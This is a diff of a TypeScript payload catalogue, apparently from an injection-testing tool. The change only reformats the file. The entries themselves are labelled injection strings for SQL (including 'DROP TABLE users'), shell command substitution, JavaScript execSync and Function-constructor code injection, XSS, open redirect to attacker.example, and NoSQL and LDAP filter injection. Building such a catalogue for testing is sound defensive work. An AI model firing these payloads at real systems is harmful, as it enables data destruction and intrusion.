@@ -85,16 +85,18 @@ export const BENIGN: Record<ContextId, string> = {
 
 const CATALOGUE: Record<ContextId, readonly PayloadEntry[]> = {
   // SQL ------------------------------------------------------------------------------------
-  "sql-statement": [
-    { text: "SELECT 1; DROP TABLE users-- ", source: `${WSTG_SQLI}: the caller writes the whole query, so stacked queries` },
-  ],
+  "sql-statement": [{ text: "SELECT 1; DROP TABLE users-- ", source: `${WSTG_SQLI}: the caller writes the whole query, so stacked queries` }],
   "sql-string": [
     { text: "{q} OR {q}1{q}={q}1", source: `${WSTG_SQLI}: always-true condition, closed by the query's own quote` },
     { text: "{q} OR 1=1-- ", source: `${WSTG_SQLI}: always-true condition, rest of the query commented out` },
     { text: "{q}; SELECT pg_sleep(5)-- ", source: `${WSTG_SQLI}: stacked time-delay query (PostgreSQL)`, dialects: ["postgresql"] },
     { text: "{q}; DROP TABLE users; -- ", source: `${WSTG_SQLI}: stacked queries` },
     { text: "{q} UNION SELECT NULL-- ", source: `${WSTG_SQLI}: UNION query technique` },
-    { text: "{q}); SELECT pg_sleep(5)-- ", source: `${WSTG_SQLI}: close a VALUES list or call, stacked time-delay query (PostgreSQL)`, dialects: ["postgresql"] },
+    {
+      text: "{q}); SELECT pg_sleep(5)-- ",
+      source: `${WSTG_SQLI}: close a VALUES list or call, stacked time-delay query (PostgreSQL)`,
+      dialects: ["postgresql"],
+    },
     { text: "{q}); DROP TABLE users; -- ", source: `${WSTG_SQLI}: close a VALUES list or call, stacked queries` },
   ],
   "sql-like": [
@@ -153,7 +155,7 @@ const CATALOGUE: Record<ContextId, readonly PayloadEntry[]> = {
   "shell-double": [
     { text: "$(id)", source: `${WSTG_CMDI}: command substitution runs inside double quotes` },
     { text: "`id`", source: `${WSTG_CMDI}: backtick substitution runs inside double quotes` },
-    { text: "\"; id #", source: `${WSTG_CMDI}: close the double quote, command separator, comment out the rest` },
+    { text: '"; id #', source: `${WSTG_CMDI}: close the double quote, command separator, comment out the rest` },
   ],
   "shell-comment": [{ text: "\nid", source: `${WSTG_CMDI}: a newline ends the comment` }],
 
@@ -172,15 +174,9 @@ const CATALOGUE: Record<ContextId, readonly PayloadEntry[]> = {
     { text: "1;process.exit(1)", source: `${WSTG_CODEI}: a second statement` },
     { text: "1);process.exit(1);(1", source: `${WSTG_CODEI}: close the call the value is an argument of` },
   ],
-  "js-regex": [
-    { text: "a/+require('child_process').execSync('id')+/a", source: `${WSTG_CODEI}: close the regular expression, concatenate a call` },
-  ],
-  "js-comment-line": [
-    { text: "\nrequire('child_process').execSync('id')//", source: `${WSTG_CODEI}: a newline ends the comment` },
-  ],
-  "js-comment-block": [
-    { text: "*/require('child_process').execSync('id')/*", source: `${WSTG_CODEI}: close the comment` },
-  ],
+  "js-regex": [{ text: "a/+require('child_process').execSync('id')+/a", source: `${WSTG_CODEI}: close the regular expression, concatenate a call` }],
+  "js-comment-line": [{ text: "\nrequire('child_process').execSync('id')//", source: `${WSTG_CODEI}: a newline ends the comment` }],
+  "js-comment-block": [{ text: "*/require('child_process').execSync('id')/*", source: `${WSTG_CODEI}: close the comment` }],
 
   // HTML (XSS) -----------------------------------------------------------------------------
   "html-text": [
@@ -212,9 +208,7 @@ const CATALOGUE: Record<ContextId, readonly PayloadEntry[]> = {
     // After `<!--<script>` in script data, `</script>` does not end the script until `-->` does.
     { text: "--></{tag}><img src=x onerror=alert(1)>", source: `${WSTG_XSS}: leave a script data escape, end the element, new element` },
   ],
-  "html-comment": [
-    { text: "--><img src=x onerror=alert(1)>", source: `${WSTG_XSS}: close the comment, new element` },
-  ],
+  "html-comment": [{ text: "--><img src=x onerror=alert(1)>", source: `${WSTG_XSS}: close the comment, new element` }],
   // Nothing ends <plaintext>: every later character is text.
   "html-plaintext": [],
 
@@ -254,9 +248,7 @@ const CATALOGUE: Record<ContextId, readonly PayloadEntry[]> = {
     { text: "//attacker.example", source: `${WSTG_REDIRECT}: scheme-relative URL` },
     { text: "\\\\attacker.example", source: `${WSTG_REDIRECT}: backslashes read as slashes in http(s) URLs` },
   ],
-  "url-query": [
-    { text: "42&amount=0", source: `${WSTG_HPP}: an extra query parameter` },
-  ],
+  "url-query": [{ text: "42&amount=0", source: `${WSTG_HPP}: an extra query parameter` }],
   // After # nothing reaches the server or changes where the URL points.
   "url-fragment": [],
 
@@ -279,7 +271,10 @@ const CATALOGUE: Record<ContextId, readonly PayloadEntry[]> = {
   "nosql-js-string": [
     { text: "{q} || {q}1{q}=={q}1", source: `${WSTG_NOSQL}: $where condition made always true, closed by the code's own quote` },
     { text: "{q} || sleep(5000) || {q}", source: `${WSTG_NOSQL}: $where runs an added call (a time delay)` },
-    { text: "{q} || this.constructor.constructor({q}return process{q})() || {q}", source: `${WSTG_CODEI}: reach the Function constructor from the server's JavaScript` },
+    {
+      text: "{q} || this.constructor.constructor({q}return process{q})() || {q}",
+      source: `${WSTG_CODEI}: reach the Function constructor from the server's JavaScript`,
+    },
   ],
   "nosql-js-code": [
     { text: "1 || true", source: `${WSTG_NOSQL}: $where condition made always true` },
@@ -305,16 +300,12 @@ const CATALOGUE: Record<ContextId, readonly PayloadEntry[]> = {
     { text: "*{v}", source: `${WSTG_LDAP}: a leading wildcard widens an exact or prefix match` },
     { text: "*)(uid=*))(|(uid=*", source: `${WSTG_LDAP}: close the filter and start another (only servers that ignore trailing text accept it)` },
   ],
-  "ldap-filter": [
-    { text: "(objectClass=*)", source: `${WSTG_LDAP}: a filter that matches every entry` },
-  ],
+  "ldap-filter": [{ text: "(objectClass=*)", source: `${WSTG_LDAP}: a filter that matches every entry` }],
   "ldap-dn-value": [
     { text: "{v},ou=admins", source: `${WSTG_LDAP}: an added RDN moves the DN to another branch of the tree` },
     { text: "{v}+uid=admin", source: `${WSTG_LDAP}: a multi-valued RDN` },
   ],
-  "ldap-dn": [
-    { text: "uid=admin,ou=admins", source: `${WSTG_LDAP}: a DN in another branch of the tree` },
-  ],
+  "ldap-dn": [{ text: "uid=admin,ou=admins", source: `${WSTG_LDAP}: a DN in another branch of the tree` }],
 };
 
 /**
@@ -327,9 +318,7 @@ export function payloadsFor(context: HoleContext): string[] {
   const v = BENIGN[context.id];
   const tag = context.tag ?? "script";
   const entries = CATALOGUE[context.id].filter((entry) => !entry.dialects || (context.dialect !== undefined && entry.dialects.includes(context.dialect)));
-  return entries.map((entry) =>
-    entry.text.replace(/\{q\}|\{v\}|\{tag\}/g, (m) => (m === "{q}" ? q : m === "{v}" ? v : tag)),
-  );
+  return entries.map((entry) => entry.text.replace(/\{q\}|\{v\}|\{tag\}/g, (m) => (m === "{q}" ? q : m === "{v}" ? v : tag)));
 }
 
 /** Where a catalogue payload comes from (for documentation and tests). */
